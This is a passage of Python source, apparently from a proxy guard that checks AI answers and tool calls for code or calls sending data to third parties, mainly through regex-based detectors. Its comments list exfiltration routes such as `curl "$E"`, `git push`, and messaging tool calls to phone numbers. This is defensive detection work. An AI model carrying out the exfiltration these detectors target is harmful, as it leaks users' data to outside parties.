    rf"|(?:use|using|package)[ \t]+[\w.:]+[ \t]*;"
    rf"|\#include[ \t]*[<\"]|@{_CHAIN}(?:\([^\n]*\))?[ \t]*$"
    rf"|(?:export[ \t]+)?(?:const|let|var|val|my|our|local)[ \t]+(?:\$?[\w$]+|\{{[^}}\n]*\}}|\[[^\]\n]*\])[ \t]*"
    rf"(?::[^=\n]{{1,64}})?=(?![=>])"
    rf"|(?:export[ \t]+)?(?:async[ \t]+)?(?:def|function\*?|func|fn|sub)[ \t]+[\w$.]+[ \t]*[(<{{]"
    rf"|(?:(?:public|private|abstract|static|final|export)[ \t]+)*class[ \t]+[A-Za-z_]\w*[ \t]*"
    rf"(?:[:({{<]|extends\b|implements\b|$)"
    rf"|(?:if|elif|while|for|foreach|switch|catch|with|unless|until)[ \t]*\([^\n]*[){{][ \t]*$"
    rf"|(?:if|elif|while|with)[ \t]+[^\n]*[=<>()\[\].][^\n]*:[ \t]*$|for[ \t]+[^\n]+[ \t]in[ \t][^\n]*:[ \t]*$"
    rf"|(?:try|else|finally)[ \t]*:[ \t]*$|except\b[^\n]*:[ \t]*$"
    rf"|(?:await|return|yield|new|throw|go|defer)[ \t]+{_CHAIN}\("
    rf"|(?:(?:[A-Z]\w*(?:<[^<>\n]{{0,64}}>)?(?:\[\])*|int|long|short|double|float|bool|boolean|char|byte|auto|string|void"
    rf"|final|static|private|public|protected|readonly)[ \t]+)+[a-z_$][\w$]*[ \t]*=(?![=>])"
    rf"|{_CHAIN}(?:[ \t]*,[ \t]*{_CHAIN})*[ \t]*(?:[-+*/%|&^]|//|\*\*|\?\?|<<|>>|:)?=(?![=>])[ \t]*[^\s]"
    rf"|{_CHAIN}\((?:[^\n]*(?:[)(\[{{,;\\]|[)\]][ \t]*(?:\#|//)[^\n]*))?[ \t]*$"
    rf"|{ONE_LINE_STARTS})"  # (one-line loops, comprehensions of a call: `restore24`)
)
# A REPL's prompt (`>>>` not before a sentence: a mail's quote, `>>> Hi Dana,`, `>>> we wrote to`).
_REPL_START = re.compile(r"[ \t]*(?:>>>(?![ \t]+[A-Z][a-z']*(?:[ \t,.!?:;]|$))"
                         r"(?![^\n]*?[A-Za-z'],?[ \t]+[A-Za-z']+,?[ \t]+[A-Za-z'])"
                         r"|In[ \t]?\[\d+\]:|irb\([\w.]+\):\d+(?::\d+)?[>*\"']|(?:\[\d+\][ \t])?pry\([^)\n]{0,32}\)>"
                         r"|iex\(\d+\)>|(?:scala|julia|ghci|sqlite|mysql)>)", re.M)
# (Node's prompt, as a Markdown quote's marker: before a code line; `>>>` before a sentence is a mail's quote)
_NODE_PROMPT = re.compile(r"[ \t]*>(?:>>)?[ \t]+")
_REPL_MORE = re.compile(r"[ \t]*(?:\.\.\.(?=[ \t:]|$)|Out\[\d+\]:)", re.M)
# A prompt's first characters (a stream's last line: `In [`, `irb(ma`).
_REPL_PARTIAL = re.compile(r"[ \t]*(?:>{1,3}|\.{1,3}|I|In[ \t]?(?:\[\d*\]?)?|O|Ou|Out(?:\[\d*\]?)?|i|ir"
                           r"|irb(?:\([^)\n]*\)?[:\d]*)?|p|pr|pry(?:\([^)\n]*\)?)?|ie|iex(?:\(\d*\)?)?)[ \t]*\Z")

# What goes on with a run of code lines: an indented line (a block's body), a closing bracket, a chained call, a
# comment, a block's next clause.
_CODE_MORE = re.compile(r"[ \t]+[^\s]|[ \t]*(?:[)\]}]|\.[A-Za-z_$]|\#|//|/\*|\.\.\.(?=[ \t]|$)"
                        r"|(?:else|elif|except|finally|catch|case|default|end|return|raise|throw|yield|pass|break"
                        r"|continue)\b|(?:if|for|while|with|switch|try|do)\b[^\n]*[:{][ \t]*$)", re.M)
_CODE_LINE: re.Pattern[str] | None = None
_CODE_STARTS: re.Pattern[str] | None = None
_PROBES = ("x", "=1", "(1)", "x=1", "x(1)", ":", "{")


def _code_start() -> re.Pattern[str]:
    """A line that starts code (see above): a REPL prompt or a code line (`_CODE_START`)."""
    global _CODE_STARTS
    if _CODE_STARTS is None:
        _CODE_STARTS = re.compile(rf"(?m){_REPL_START.pattern}|{_CODE_START}")
    return _CODE_STARTS


def _code_line() -> re.Pattern[str]:
    """A line that starts code (`_code_start`), searched for in a text (a line's start)."""
    global _CODE_LINE
    if _CODE_LINE is None:
        _CODE_LINE = re.compile(r"(?m)^(?=[ \t]*[^\s`~<])(?:" + _code_start().pattern.removeprefix("(?m)") + ")")
    return _CODE_LINE


def _run_line(text: str, at: int, code: bool, repl: bool) -> str | None:
    """How the line at `at` goes on with a run (`command_group_end`) that holds code lines (`code`) or a REPL
    prompt (`repl`): "cmd" (a command: `command_extent`), "repl", "code", "more" (read as code: `_code_extent`), or
    None (it ends the run)."""
    if text.startswith(MIDLINE, at):
        return "more"  # (a stream's kept context: a line cut inside the open run)
    eol = text.find("\n", at)
    line = text[at:] if eol < 0 else text[at:eol]
    if not line.strip():
        return None
    if _REPL_START.match(line) is not None or (_NODE_PROMPT.match(line) is not None
                                               and _code_start().match(line) is not None):
        return "repl"
    if _command_start().match(line) is not None:
        return "cmd"
    if _code_start().match(line) is not None:
        return "code"
    if repl or (code and _CODE_MORE.match(line) is not None):
        return "more"
    return None


# Past a blank line, what goes on with a run of code lines (a Python function's next statements, a JavaScript object's
# next members): inside a bracket left open, a closing bracket, an indented line that starts code, a member or an item
# (`_OPEN_MORE`); else a closing bracket or a block's end (`}`, `fi`, `done`, `end`), a block's next clause,
# an indented statement (`return {...}`, `yield ...`), comment, chained call or string (`_BLANK_MORE`). Not a
# sentence (`_SENTENCE`: words and placeholders, a capital or a placeholder first, or a stop last or a
# placeholder in it).
_WORD = rf"(?:[\w'’-]|{PLACEHOLDER})+"  # (a placeholder too: a client's name or address in a sentence)
_SENTENCE = re.compile(rf"[ \t]*(?:(?:[-*+>]|\d{{1,3}}[.)])[ \t]+)?(?:[A-Z<]{_WORD}|[a-z]{_WORD}"
                       rf"(?=[^\n]*(?:[.!?][ \t]*$|(?<![\w\"']){PLACEHOLDER})))[,;:]?(?:[ \t]+{_WORD}[,;:]?){{2,}}"
                       rf"[.!?]?[ \t]*$")
_OPEN_MORE = re.compile(r"[ \t]*[)\]}]|[ \t]+(?:[\"'`\[{]|\((?![A-Za-z][a-z]*[ \t]+[a-z])"
                        r"|-?\d[\w.]*[ \t]*(?:[,:)\]}]|$)|[A-Za-z_$][\w$.]*[ \t]*(?:[:=](?![:=])|[,()]|$)"
                        r"|\.\.\.|\*\*|//|/\*|\#)")
_BLANK_MORE = re.compile(r"[ \t]*(?:[)\]}]|(?:fi|done|esac|end)\b[ \t;]*$|(?:else|elif|except|finally)\b[^\n]*:[ \t]*$)"
                         r"|[ \t]+(?:\.[A-Za-z_$]|\#|//|/\*|[\"'][^\n]*[\"'][ \t]*[,;)]?[ \t]*$"
                         r"|(?:else|elif|except|finally|catch|case|default|when|rescue|ensure|return|raise|throw|yield"
                         r"|await|assert|del|pass|break|continue|end)\b"
                         r"|(?:if|for|while|with|switch|try|do|unless|until)\b[^\n]*[:{][ \t]*$)")


def _goes_on(line: str, code: bool, depth: int) -> bool:
    """Whether `line`, after a blank line, goes on with a run that holds code lines (`code`) and left `depth` brackets
    open (see above). At no depth, a line that starts a command or code starts a run of its own (a scope of the same
    answer: `answer_of`)."""
    if not line.strip() or (_SENTENCE.match(line) is not None and not code_value(line)):  # (`restore24`)
        return False
    if depth > 0:
        return _OPEN_MORE.match(line) is not None or (line[:1] in " \t" and _starts(line))
    return code and _BLANK_MORE.match(line) is not None and not _starts(line)


_CLOSERS = ("fi", "done", "esac", "end", "else", "elif", "except", "finally")
_BLOCK_HEAD = re.compile(r"(?:if|for|while|with|switch|try|do|unless|until|else|catch|finally)\b")


def _may_go_on(line: str, code: bool, depth: int) -> bool:
    """Whether `line`, after a blank line and not ended (a stream's next piece), may still go on with the run
    (`_goes_on`): its first word is not complete, or it is one once a block's head or a string ends (`:`, `{`, its
    quote); not a line that starts a run of its own already."""
    if not code or (depth == 0 and _starts(line)):
        return False
    if line[:1] not in " \t":  # (unindented: a closing bracket, a block's end or next clause)
        word = line.rstrip()
        return line[:1] in ")]}" or (depth == 0 and (word.isalpha() and any(k.startswith(word) for k in _CLOSERS)
                                                     or _goes_on(word + ":", code, depth)))
    if not _word_done(line):
        return True
    head = line.lstrip()
    probes = [":", head[:1]] + (["{"] if _BLOCK_HEAD.match(head) is not None else [])
    line = line.rstrip()
    return any(_goes_on(line + probe, code, depth) for probe in probes if probe in ":{\"'")


def _starts(line: str) -> bool:
    """Whether `line` starts a command, code or a REPL transcript."""
    return _REPL_START.match(line) is not None or _command_start().match(line) is not None or \
        _code_start().match(line) is not None


def _maybe_code(line: str, code: bool) -> bool:
    """Whether a run's last line, not ended, may still become one of its lines (`fmt.Pr` of `fmt.Println(u)`,
    `data `, `In [`; after code lines `if email` of `if email:`): it is one with a few characters more."""
    return _REPL_PARTIAL.match(line) is not None or any(
        _code_start().match(line + probe) is not None or (code and _CODE_MORE.match(line + probe) is not None)
        for probe in _PROBES)


_STRING = re.compile(r"\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'")
_LINE_COMMENT = re.compile(r"(?:^|[ \t])(?:\#|//).*")


def _code_extent(text: str, start: int, depth: int = 0) -> tuple[int, int]:
    """Where the code line at `start` ends, and the brackets still open there: its line break, or, while a bracket
    it (or the lines before a blank line: `depth`) opened is open (strings and comments aside), the line break of the
    line that closes it (a blank line ends it anyway: `command_group_end` reads on past it), through a triple-quoted
    string it opens (blank lines too); the text's end if it is still open there."""
    n = len(text)
    i = start
    while True:
        eol = text.find("\n", i)
        line = text[i:] if eol < 0 else text[i:eol]
        opened = _triple_open(line) if '"""' in line or "'''" in line else None
        opened = opened or (template_open(line) if "`" in line else None)  # (`restore24`)
        if opened is not None:
            line = line[:opened[1]]
        if "'" in line or '"' in line or "#" in line or "//" in line:
            line = _LINE_COMMENT.sub("", _STRING.sub("", line))
        depth = max(0, depth + line.count("(") + line.count("[") + line.count("{") - line.count(")") - line.count("]")
                    - line.count("}"))
        if opened is not None:  # a triple-quoted string: on from its closing quotes
            close = text.find(opened[0], i + opened[1] + len(opened[0]))
            if close < 0:
                return n, depth
            i = close + len(opened[0])
            continue
        if eol < 0:
            return n, depth
        if depth == 0:
            return eol, 0
        k = text.find("\n", eol + 1)
        if not text[eol + 1:n if k < 0 else k].strip():
            return eol, depth
        i = eol + 1


# A Python string in triple quotes (a docstring, a mail's text, a script's here-document): it may hold blank lines.
_TRIPLE = re.compile(r"\"{3}|'{3}")


def _triple_open(line: str) -> tuple[str, int] | None:
    """The triple quotes `line` leaves open, and where they start, if any."""
    opened: tuple[str, int] | None = None
    for m in _TRIPLE.finditer(line):
        if opened is None:
            opened = (m.group(), m.start())
        elif m.group() == opened[0]:
            opened = None
    return opened


# A notebook's code cell (`.ipynb` JSON, not in a code block): `{"cell_type": "code", ..., "source": [...]}`.
_NOTEBOOK_CELL = re.compile(r'"cell_type"\s{0,8}:\s{0,8}"code"')


def _json_end(text: str, start: int) -> int:
    """The end of the JSON object or array opening at `start` (strings read through), or the text's end (open there,
    or cut: a stream's kept context, `MIDLINE`)."""
    end = json_close(text, start)
    return len(text) if end is None else end


def json_close(text: str, start: int, limit: int | None = None) -> int | None:
    """The end of the JSON object or array opening at `start` (strings read through), None where it does not close
    before `limit` (the text's end by default) or before a stream's cut (`MIDLINE`)."""
    n = len(text) if limit is None else min(len(text), limit)
    depth = 0
    i = start
    quoted = False
    while i < n:
        c = text[i]
        if c == MIDLINE:
            return None
        if quoted:
            if c == "\\":
                i += 1
            elif c == '"':
                quoted = False
        elif c == '"':
            quoted = True
        elif c in "{[":
            depth += 1
        elif c in "}]":
            depth -= 1
            if depth <= 0:
                return i + 1
        i += 1
    return None


def kept_code(text: str, every: bool = False, documents: bool = True) -> list[tuple[int, int, int, str]]:
    """(start, end of its opener, end, "") of each code scope of `text` that sends (`sends`), or with `every`, of each
    (the answer's tool calls or code send: `answer_of`): restore writes no value there but into a URL the client sent
    (`proxy.guard.urls.kept_spans`)."""
    return [(a, h, b, "") for a, h, b in code_spans(text, documents=documents) if every or sends(text[a:b])]


# The answer a text or tool call is of, by its channel (a whole answer's slot, a stream's field): a chat or
# completions choice, else the whole answer (Anthropic blocks, Responses items). Its tool calls and code scopes are
# one scope for restore (atk19 H1): a value restored where nothing sends (`write_file {"content": ...}`, `export
# E=...` in one code block) is sent on by the next call or block (an upload of the file, `curl "$E"`); so once one of
# them sends, every one keeps its placeholders. (A stream's group is named so: `proxy.stream.channels`.)
_ANSWER = re.compile(r"(?:field:)?(choice:\d+)(?=:)")


def answer_of(channel: str) -> str:
    """The answer `channel` is a field of (`_ANSWER`): `choice:N` or `answer`."""
    m = _ANSWER.match(channel)
    return m.group(1) if m is not None else "answer"

# A tool call's texts in an answer (scopes16): a chat tool call or legacy function call, a Responses output item that
# is no message nor reasoning (function, custom tool, MCP, shell, local shell, computer, apply-patch, code interpreter
# calls), an Anthropic tool use block; by the channel's start.
# Fields the sweep screens (`proxy.providers.answers.answer_sweep`: channel `field:...`, an `env` map) are the call's.
# A stream event's item (`response.output_item.done`) is swept as `field:item:...`: the event's one output item; a
# `response.completed`'s as `field:response:output:N:...`.
_TOOL_SCOPE = re.compile(r"(?:field:(?:response:)?)?(choice:\d+:(?:tool:\d+|function_call)(?=:)|output:\d+(?=:)"
                         r"|block:\d+(?=:)|content:\d+(?=:)|(?<=field:)item(?=:))")
_NOT_TOOL = frozenset({"text", "refusal", "reasoning"})


def tool_scope_of(channel: str, kind: str) -> str | None:
    """The tool call a text of `channel` and `kind` is of (its channel's start), if any: every value and key of one
    call is one scope for restore (`proxy.guard.phases.destination_scopes`; a stream's field,
    `proxy.guard.windows.OutputWindows.field_kind`: a Responses `local_shell_call`'s argv given whole in
    `output_item.added`, atk21 H1)."""
    m = _TOOL_SCOPE.match(channel)
    if m is None:
        return None
    if kind in ("tool_arguments", "field") or (m.group(1).startswith("output:") and kind not in _NOT_TOOL):
        if m.group(1) == "item" and kind != "field":
            return None
        return m.group(1)
    return None



def code_sends(text: str, ended: bool = True, whole: int | None = None) -> bool:
    """Whether a code scope of `text` sends (`sends`) what another scope may hold: not when it is `inert`. A stream's
    text (read after what its field released: `proxy.guard.urls.url_context`): a scope open at its end is read once
    it ends (but at the answer's end, `ended`), and is known whole only when it is at most `whole` characters long
    (the context keeps an open scope's opener and its last characters)."""
    n = len(text)
    for a, _, b in code_spans(text):
        if b == n and not ended and not _closed(text[a:b]):
            continue
        span = text[a:b]
        if sends(span) and not ((whole is None or b - a <= whole) and inert(span)):
            return True
    return False


# A fenced block's closing fence, its line ended (`\n`), and an element's end tag: nothing more of the scope may come
# (atk23 H1: a block that sends, closed at the end of a stream's piece, was read again only at the answer's end, after
# a later field of the answer had gone out restored).
_CLOSING_FENCE = re.compile(r"\n[ \t]*(`{3,}|~{3,})[ \t]*\r?\n\Z")
_END_TAG = re.compile(r"(?i)</(?:pre|code|samp|kbd|listing|xmp)\s*>\Z")


def _closed(span: str) -> bool:
    """Whether a code scope running to a stream's text's end is closed all the same (`code_sends`): a fenced block
    whose last line, ended, is a closing fence of its opener's character at least as long, or an element that ends
    with its end tag."""
    if _END_TAG.search(span):
        return True
    close = _CLOSING_FENCE.search(span)
    opener = re.match(r"[ \t]*(`{3,}|~{3,})", span)
    return close is not None and opener is not None and close.group(1)[0] == opener.group(1)[0] \
        and len(close.group(1)) >= len(opener.group(1))


# A URL with a scheme and a host that refers to nothing else: no variable, substitution, template or escape in it; no
# `file:` URL (a local file: what another scope wrote).
_PLAIN_URL = re.compile(r"(?i)(?<![\w$%{])(?!file:)[a-z][a-z0-9+.\-]{1,31}://(?=[^\s/\\])[^\s\"'<>`$%{}()\\]*"
                        r"(?=[\s\"'<>`]|\Z)")
_CODE_TAG = re.compile(r"(?i)</?(?:pre|code|samp|kbd|listing|xmp|plaintext)\b[^>]*>")
_FENCE_LINE = re.compile(r"(?m)^[ \t]*(?:`{3,}|~{3,})[^\n`]*$")
_JSON_KEY = re.compile(r'"(?:[^"\\]|\\.)*"\s*:')
# What a stream's next piece goes on: a key before its `:`, a string not complete
_JSON_TAIL = re.compile(r'(?:"(?:[^"\\]|\\.)*"|"(?:[^"\\]|\\.)*\\?)\s*\Z')
_INERT_JSON = re.compile(r'[\s{}\[\],"]*')


def inert(text: str, json: bool = False, partial: bool = False) -> bool:
    """Whether a scope that sends sends nothing but the URLs it names: once its plain URLs (`_PLAIN_URL`) are taken
    out, nothing is left but its fences, backticks or code tags (an inline `https://api.acme-corp.com/v2`), or,
    `json` (a tool call's arguments), but keys: every value is such a URL (`fetch_url {"url": ...}`; a flag such as
    `"include_files": true` may send more, atk21 L1). A command is never inert: `git clone https://...` reads a
    config another scope may write, `git push https://...` sends a repository (atk21 H2, H3); a word value may name
    what another call stored. One answer's scopes are one (`answer_of`), but an inert one makes no other scope keep
    its values. `partial`: `text` is a stream's, what ends it may go on (a key cut before its `:`, a string not
    complete)."""
    from proxy.guard.commands22 import sets_destination  # (a URL that sets where the app sends: atk22a H2)

    if sets_destination(text, json):
        return False
    rest = _PLAIN_URL.sub("", text)
    if json:
        rest = _JSON_KEY.sub("", rest)
        if partial:
            rest = _JSON_TAIL.sub("", rest)
        return _INERT_JSON.fullmatch(rest) is not None
    return not _FENCE_LINE.sub("", _CODE_TAG.sub("", rest)).strip(" \t\r\n`")


def plain_url(text: str) -> bool:
    """Whether `text` (a tool call's value) is one plain URL (`inert`), a web page's (`http:`, `https:`)."""
    from proxy.guard.commands22 import sets_destination

    return _PLAIN_URL.fullmatch(text.strip()) is not None and not sets_destination(text)


def sends(text: str) -> bool:
    """Whether a scope's `text` may send what it holds to a third party: it names a network destination or runs a
    network client (`runs_client`). A JSON member naming the sender (`"from": "noreply@shop.example.com"`) names
    none: the mail goes to its other addresses."""
    if '"' in text and _SENDER.search(text) is not None:
        text = _SENDER.sub("", text)
    from proxy.guard import strm48  # (strm48: atk47 F07)
    from proxy.guard.commands22 import host_call, runs_command  # (restore22: atk22a H3, M1, M2)
    from proxy.guard.rest36 import sends as rest36_sends  # (rest36: atk35 F01, F04, F06-F08)
    from proxy.guard.rest37 import document  # (rest37: atk37 F13, F19)
    from proxy.guard.rest37 import sends as rest37_sends
    from proxy.guard.rst41 import sends as rst41_sends
    from proxy.guard.send37 import sends as send37_sends  # (send37: atk35 F02, F03, F06)
    from proxy.guard.tools24 import names_host_member  # (restore24: atk24b F8)

    if rest37_sends(text):
        return True
    if document(text):  # (a message, an invitation with no recipient the model wrote: nothing else is read)
        return False
    if rest36_sends(text) or send37_sends(text):
        return True

    return names_destination(text) or runs_client(text) or runs_command(text) or host_call(text) or \
        ('"' in text and (texts_number(text) or names_host_member(text) or strm48.names_recipient(text))) or \
        prose_sends(text) or \
        rest31_sends(text) or rest33_sends(text) or rest35_sends(text) or \
        rst41_sends(text)  # (restore24, cmd26, rest31, rest33, rest35, rst41: atk41 F02)


def texts_number(text: str) -> bool:
    """Whether a tool call's JSON `text` sends a message to a phone number the model wrote (`_PHONE_TO`): under a
    recipient's key (`to`, `recipient`...), or under a number's (`phone`, `number`, `mobile`...) beside the
    message's text (`message`, `text`, `body`: `send_whatsapp {"phone": "+44...", "message": ...}`), not a contact
    record's `phone` (atk19 L3)."""
    if _PHONE_TO.search(text) is not None:
        return True
    return _PHONE_NUMBER_KEY.search(text) is not None and _MESSAGE_KEY.search(text) is not None


# A phone number the model wrote as a message's recipient (`{"to": "+1 415 555 0199", "message": ...}`: an SMS or
# WhatsApp tool sends it there; atk19 L3).
_PHONE_VALUE = r'\s{0,8}:\s{0,8}\[?\s{0,8}\\?"\+?\d[\d \t().\-]{6,20}\\?"'
_PHONE_TO = re.compile(r'(?i)\\?"(?:to|recipients?|whatsapp|sms|dest(?:ination)?)\\?"' + _PHONE_VALUE)
_PHONE_NUMBER_KEY = re.compile(r'(?i)\\?"(?:(?:to_|recipient_?)?(?:phone(?:_?number)?|(?:mobile|cell)(?:_?number)?'
                               r'|number|msisdn))\\?"' + _PHONE_VALUE)
_MESSAGE_KEY = re.compile(r'(?i)\\?"(?:message|text|body|msg|content|sms_?body|message_?body)\\?"\s{0,8}:')
_SENDER = re.compile(r'(?i)\\?"(?:from|sender)(?:_?(?:address|email|mail))?\\?"\s{0,8}:\s{0,8}\\?"[^"\\]{0,320}\\?"')


def open_code(text: str, documents: bool = True) -> tuple[int, int] | None:
    """(start, end of its opener) of the code scope open at `text`'s end (a stream's released text: what follows is
    read inside it), if any."""
    last = None
    for a, h, b in code_spans(text, documents=documents):
        last = (a, h, b)
    if last is None or last[2] != len(text):
        return None
    return last[0], last[1]


def scope_context(text: str) -> str:
    """What a stream keeps of released `text` to tell the scope what follows is in (`proxy.guard.linehold`): the
    opener of the code scope open at its end, then its last characters."""
    code = open_code(text)
    if code is None:
        return (MIDLINE if len(text) > _TAIL and text[-_TAIL - 1] != "\n" else "") + text[-_TAIL:]
    a, h = code
    if len(text) - a <= _TAIL:  # (what comes before it too: an HTML code tag whose `>` came later, `<pre\nclass=`)
        return (MIDLINE if len(text) > _TAIL and text[-_TAIL - 1] != "\n" else "") + text[-_TAIL:]
    opener, kept = text[a:h], text[max(h, len(text) - _TAIL):]
    if len(text) - _TAIL > h and text[len(text) - _TAIL - 1] != "\n":
        kept = MIDLINE + kept
    return with_opener(opener, kept)


def with_opener(opener: str, kept: str) -> str:
    """An open scope's opener, then what a context keeps of its text, a line break between when neither has one
    there (what was dropped between runs on into neither: `scope_context`, `proxy.guard.urls.url_context`)."""
    return opener + kept if opener.endswith("\n") or kept.startswith("\n") else opener + "\n" + kept
